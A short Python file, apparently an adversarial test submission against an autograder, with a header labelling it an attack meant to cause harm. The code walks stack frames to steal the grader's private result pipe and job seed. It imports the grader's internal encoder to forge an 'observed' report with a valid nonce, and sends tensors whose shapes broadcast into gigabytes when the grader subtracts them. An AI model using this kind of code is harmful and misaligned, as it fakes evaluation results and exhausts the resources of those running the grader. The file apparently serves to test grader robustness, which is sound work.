# {"attack": "Returns scores of shapes that become gigabytes when the grader subtracts one from another.", "breach": "harm", "lesson": "mlp", "tasks": ["train_mlp"]}

import os
import sys


def result_pipe():
    """The descriptor on which the process reports: a local variable of a caller, or the one that is a pipe."""
    frame = sys._getframe()
    while frame:
        for name in ("result_fd", "result"):
            if type(frame.f_locals.get(name)) is int:
                return frame.f_locals[name]
        frame = frame.f_back
    return 3


PIPE = result_pipe()


def say(message):
    from autograder.wire import encode_frame

    data = encode_frame(message, 8 * 2**20)
    while data:
        data = data[os.write(PIPE, data) :]


def nonce(probe):
    from autograder.lesson import Draws

    frame = sys._getframe()
    while "job" not in frame.f_locals:
        frame = frame.f_back
    return Draws(frame.f_locals["job"]["seed"], probe, 0).nonce


import torch


def train_mlp(dataset, epochs):
    probe = "train_mlp.halfway_between_images"
    flat, tall = torch.arange(18_000.0).reshape(9_000, 2), torch.zeros(9_000, 1, 2)
    values = {"one": flat.sin(), "other": flat.cos(), "halfway": tall}
    say({"event": "observed", "name": probe, "attempt": 0, "nonce": nonce(probe), "values": values, "failure": None})
    raise ValueError
